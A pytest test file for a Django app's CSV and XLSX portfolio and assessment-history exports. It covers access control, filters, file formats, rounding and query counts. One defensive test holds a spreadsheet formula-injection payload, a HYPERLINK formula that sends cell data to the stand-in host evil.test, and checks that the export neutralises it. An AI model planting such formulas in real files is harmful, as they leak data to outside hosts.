"""The square's downloads: the portfolio (the records of `keyfolio portfolio`) and the
accounts' assessment history (the file of `keyfolio export-scores`), as CSV or XLSX."""

import csv
import io
from datetime import date

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone

from keyfolio.accounts.models import Account
from keyfolio.assessments.imports import scores_import_parse
from keyfolio.core.tables import table_read
from keyfolio.portfolio.tests.test_square import add_account, assess

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HOSTILE = '=HYPERLINK("http://evil.test/?"&A1,"Open")'
EXPORTS = ["portfolio:export", "portfolio:export_scores"]


@pytest.fixture
def portfolio(world):
    """Northwind (the manager's) assessed twice, Contoso (the outsider's), Fabrikam (the
    director's, in another segment), an archived account and one never assessed."""
    assess(world.account, client=80, our=70, on=date(2025, 1, 10), by=world.manager)
    assess(world.account, client=85, our=72, on=date(2025, 3, 1), by=world.teammate)
    contoso = add_account(world, "Contoso", owner=world.outsider, segment="Energy")
    assess(contoso, client=75, our=20, by=world.outsider)
    fabrikam = add_account(world, "Fabrikam", owner=world.director, segment="Health")
    assess(fabrikam, client=30, our=65)
    archived = add_account(world, "Zed Archived", owner=world.manager)
    assess(archived, client=50, our=50)
    archived.archive()
    add_account(world, "Umbrella", owner=world.director)
    return world


def url(world, name="portfolio:export", file_format="csv", **query) -> str:
    base = reverse(name, args=(world.slug, file_format))
    return base + ("?" + "&".join(f"{k}={v}" for k, v in query.items()) if query else "")


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def download(world, person, name="portfolio:export", file_format="csv", **query):
    response = world.client_for(getattr(world, person)).get(url(world, name, file_format, **query))
    assert response.status_code == 200
    return response


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body(response).decode("utf-8-sig"))))


def accounts_in(response) -> list[str]:
    """The account of every row of a CSV download, in order."""
    return [row[0] for row in csv_rows(response)[1:]]


# --- who sees what --------------------------------------------------------------------


@pytest.mark.parametrize("name", EXPORTS)
@pytest.mark.parametrize("person", ["owner", "admin", "director"])
def test_it_gives_those_who_see_every_account_every_active_account(portfolio, person, name):
    found = set(accounts_in(download(portfolio, person, name)))
    expected = {"Contoso", "Fabrikam", "Northwind"}
    assert found == (expected | {"Umbrella"} if name == "portfolio:export" else expected)


@pytest.mark.parametrize("name", EXPORTS)
@pytest.mark.parametrize("person", ["manager", "teammate", "viewer"])
def test_it_gives_the_team_of_an_account_that_account_only(portfolio, person, name):
    assert set(accounts_in(download(portfolio, person, name))) == {"Northwind"}


@pytest.mark.parametrize("name", EXPORTS)
def test_it_gives_an_outsider_none_of_the_accounts_they_have_no_tie_to(portfolio, name):
    assert set(accounts_in(download(portfolio, "outsider", name))) == {"Contoso"}


@pytest.mark.parametrize("name", EXPORTS)
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_it_is_404_in_another_workspace(portfolio, name, file_format):
    response = portfolio.client_for(portfolio.stranger).get(url(portfolio, name, file_format))
    assert response.status_code == 404


@pytest.mark.parametrize("name", EXPORTS)
def test_it_sends_anonymous_visitors_to_log_in(portfolio, name):
    response = portfolio.client_for(None).get(url(portfolio, name))
    assert response.status_code == 302
    assert response.url.startswith(reverse("users:login"))


@pytest.mark.parametrize("name", EXPORTS)
def test_it_keeps_the_squares_filters(portfolio, name):
    assert accounts_in(download(portfolio, "owner", name, segment="Energy")) == ["Contoso"]
    owner = portfolio.director.pk
    by_director = accounts_in(download(portfolio, "owner", name, owner=owner, zone="maintain"))
    assert by_director == ["Fabrikam"]


# --- the portfolio --------------------------------------------------------------------


def test_it_holds_the_records_of_keyfolio_portfolio(portfolio):
    out = io.StringIO()
    call_command("portfolio", "--workspace", "acme", "--format", "csv", stdout=out)
    response = download(portfolio, "owner")
    assert body(response).decode("utf-8-sig") == out.getvalue()


def test_its_csv_is_streamed_with_a_filename(portfolio):
    response = download(portfolio, "director")
    today = timezone.localdate().isoformat()
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="acme-portfolio-{today}.csv"'


def test_its_xlsx_has_typed_cells_and_a_filename(portfolio):
    response = download(portfolio, "director", file_format="xlsx")
    today = timezone.localdate().isoformat()
    assert response["Content-Type"] == XLSX
    assert response["Content-Disposition"] == (
        f'attachment; filename="acme-portfolio-{today}.xlsx"'
    )
    sheet = openpyxl.load_workbook(io.BytesIO(body(response))).worksheets[0]
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    northwind = rows["Northwind"]
    assert northwind[1].is_date and northwind[1].value.date() == date(2025, 3, 1)
    assert (northwind[2].value, northwind[2].data_type) == (85, "n")
    assert (northwind[3].value, northwind[3].data_type) == (72, "n")
    assert northwind[4].value == "key"
    assert [cell.value for cell in rows["Umbrella"][1:]] == [None] * 7


def test_its_indices_are_shown_as_every_page_shows_them_beside_the_exact_ones(world):
    """49.96 is below the client threshold of 50: the file says 49.9 beside the zone
    below it, never 50.0 (rounding would cross the threshold); the exact index follows."""
    assess(world.account, client=49.96, our=70)
    csv_row = dict(zip(*csv_rows(download(world, "owner")), strict=True))
    sheet = openpyxl.load_workbook(
        io.BytesIO(body(download(world, "owner", file_format="xlsx")))
    ).worksheets[0]
    header, xlsx_values = ([cell.value for cell in row] for row in sheet.iter_rows(max_row=2))
    xlsx_row = dict(zip(header, xlsx_values, strict=True))

    assert (csv_row["client_index"], csv_row["zone"]) == ("49.9", "maintain")
    assert (xlsx_row["client_index"], xlsx_row["zone"]) == (49.9, "maintain")
    assert float(csv_row["client_index_exact"]) == xlsx_row["client_index_exact"]
    assert xlsx_row["client_index_exact"] == pytest.approx(49.96)
    assert (csv_row["our_index"], xlsx_row["our_index"]) == ("70.0", 70.0)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_it_neutralises_a_hostile_account_name(portfolio, file_format):
    portfolio.account.name = HOSTILE
    portfolio.account.save()
    response = download(portfolio, "manager", file_format=file_format)
    if file_format == "csv":
        assert accounts_in(response) == ["'" + HOSTILE]
    else:
        cell = openpyxl.load_workbook(io.BytesIO(body(response))).worksheets[0]["A2"]
        assert (cell.value, cell.data_type) == ("'" + HOSTILE, "s")


# --- the assessment history -----------------------------------------------------------


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_its_assessment_history_reads_back_through_the_import(portfolio, file_format):
    response = download(portfolio, "manager", "portfolio:export_scores", file_format)
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="acme-assessments-{today}.{file_format}"'
    )
    table = table_read(io.BytesIO(body(response)))
    parsed = scores_import_parse(workspace=portfolio.workspace, table=table)
    # Both rows equal the assessments recorded: importing the download changes nothing.
    assert list(parsed.errors) == []
    assert (parsed.rows, parsed.unchanged) == ([], 2)


# --- the square's links ---------------------------------------------------------------


def test_the_square_links_its_downloads_with_its_filters(portfolio):
    square = reverse("portfolio:square", args=(portfolio.slug,))
    response = portfolio.client_for(portfolio.owner).get(square + "?segment=Energy&zone=target")
    downloads = response.context["downloads"]
    assert downloads["export_xlsx"] == url(portfolio, file_format="xlsx") + (
        "?zone=target&segment=Energy"
    )
    page = response.content.decode()
    for link in downloads.values():
        assert f'href="{link.replace("&", "&amp;")}"' in page


# --- queries --------------------------------------------------------------------------


def _accounts(world, count):
    for n in range(count):
        account = add_account(world, f"Account {n:02}", owner=world.manager, segment=f"S{n % 3}")
        assess(account, client=n, our=100 - n, on=date(2025, 1, 1), by=world.manager)
        assess(account, client=n + 1, our=99 - n, on=date(2025, 2, 1), by=world.teammate)
    Account.objects.create(workspace=world.workspace, name="Never assessed", owner=world.manager)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("count", [2, 25])
@pytest.mark.parametrize(
    ("name", "queries"),
    [
        # session, user, membership; members and segments (the filters); the accounts.
        ("portfolio:export", 6),
        # ... then the methodology, its criteria and the scores instead of the accounts.
        ("portfolio:export_scores", 8),
    ],
)
def test_it_makes_the_same_number_of_queries_whatever_the_size(
    world, django_assert_num_queries, count, file_format, name, queries
):
    _accounts(world, count)
    client = world.client_for(world.manager)
    with django_assert_num_queries(queries):
        response = client.get(url(world, name, file_format))
        data = body(response)
    rows = list(table_read(io.BytesIO(data)))
    # Northwind is the manager's too; the scores leave out the account never assessed.
    expected = count + 2 if name == "portfolio:export" else 2 * count
    assert len(rows) == 1 + expected
